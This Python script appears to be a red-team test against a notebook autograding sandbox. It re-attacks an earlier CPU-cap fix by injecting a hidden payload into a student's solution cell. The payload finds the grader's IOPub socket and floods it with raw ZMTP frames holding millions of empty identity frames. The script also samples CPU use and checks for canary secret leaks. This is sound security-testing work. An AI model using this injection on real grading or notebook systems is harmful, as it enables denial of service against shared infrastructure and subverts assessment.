"""a03: re-attack of round 19's fix (the CPU the grading process spends checking and decoding one notebook's kernel
messages is capped at 5 s, measured with time.thread_time() around feed_identities + deserialize, i.e. after
recv_multipart has returned). What recv_multipart itself costs is not measured: pyzmq receives a message frame by frame
in Python (recv + getsockopt(RCVMORE) per frame), and the frames are made by libzmq's I/O thread (another thread,
not measured either). A message may have millions of empty frames. The kernel does not pay for them frame by frame:
it finds its side of the grader's IOPub connection (a Unix socket named like its iopub endpoint) and writes the ZMTP
wire bytes itself, two bytes per empty frame (NFRAMES empty identity frames, then a correctly signed message whose
parent is no request of the grader's, so nbclient drops it). The cell sends such a message every GAP s for DUR s.
The script samples the CPU of the grading user's processes in the host's PID namespace (the grader's side) and in
sandboxes, for a baseline of two honest students and for aa_honest, m1, zz_honest."""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u20 import *

A = "ps1_memory"
NFRAMES = int(os.environ.get("NFRAMES", "2000000"))
GAP = float(os.environ.get("GAP", "0.5"))
DUR = float(os.environ.get("DUR", "100"))

PAYLOAD = f'''
def __raw(nframes={NFRAMES}, gap={GAP}, dur={DUR}):
    import os, socket, select, time, uuid, struct
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    k = get_ipython().kernel
    path = "%s-%s" % (app.ip, app.iopub_port)
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() == path:
                try:
                    s.getpeername(); fds.append(fd)
                except OSError:
                    pass
        finally:
            s.close()
    def frame(b, more):
        flags = 1 if more else 0
        if len(b) > 255:
            return bytes([flags | 2]) + struct.pack(">Q", len(b)) + b
        return bytes([flags, len(b)]) + b
    ids = b"\\x01\\x00" * nframes
    t0, n = time.time(), 0
    while time.time() - t0 < dur and fds:
        msg = k.session.msg("stream", content={{"name": "stdout", "text": ""}},
                            parent={{"msg_id": uuid.uuid4().hex, "msg_type": "x", "session": "s", "username": "u",
                                     "date": "2026-01-01T00:00:00Z", "version": "5.3"}})
        parts = k.session.serialize(msg)  # [DELIM, signature, header, parent, metadata, content]
        wire = ids + b"".join(frame(p, i < len(parts) - 1) for i, p in enumerate(parts))
        for fd in fds:
            view = memoryview(wire)
            while view:
                select.select([], [fd], [], 5)
                try:
                    view = view[os.write(fd, view):]
                except BlockingIOError:
                    pass
        n += 1
        time.sleep(gap)
    return path, len(fds), n
__r = __raw()
print("iopub connections found and messages sent:", __r)
'''


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c.source += "\n" + PAYLOAD
                break
    return notebook(A, mutate=mutate)


def sampler(stop, acc):
    mine = os.readlink("/proc/self/ns/pid")
    while not stop.is_set():
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != UID:
                    continue
                ns = os.readlink(f"/proc/{p}/ns/pid")
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:90]
            except OSError:
                continue
            if CLONE not in cmd and ns != mine:
                continue
            side = "grader" if ns == mine else "sandbox"
            acc[(p, side)] = (max(cpu, acc.get((p, side), (0, ""))[0]), cmd)
        time.sleep(0.5)


def run(tag, students):
    dest = course(tag, students)
    acc, stop = {}, threading.Event()
    th = threading.Thread(target=sampler, args=(stop, acc), daemon=True); th.start()
    t0 = time.time()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    wall = time.time() - t0
    g = sum(v[0] for (pid, side), v in acc.items() if side == "grader")
    s = sum(v[0] for (pid, side), v in acc.items() if side == "sandbox")
    print(f"{tag}: wall {wall:.0f} s; CPU of the grading user's host-namespace processes (grader side) {g:.1f} s; "
          f"in sandboxes {s:.1f} s")
    for (pid, side), (cpu, cmd) in sorted(acc.items(), key=lambda kv: -kv[1][0])[:8]:
        print(f"   {side:7s} {cpu:7.1f} s  {cmd.replace(CLONE, '<clone>')}")
    out = p.stdout + p.stderr
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {"training_memory"})
    cleanup(dest)


if __name__ == "__main__":
    print(f"hostile: one cell, {DUR} s of IOPub messages of {NFRAMES:,} empty identity frames every {GAP} s")
    if not os.environ.get("NOBASE"):
        run("a03-base", {("aa_honest", A): honest(A), ("zz_honest", A): honest(A)})
    run("a03", {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
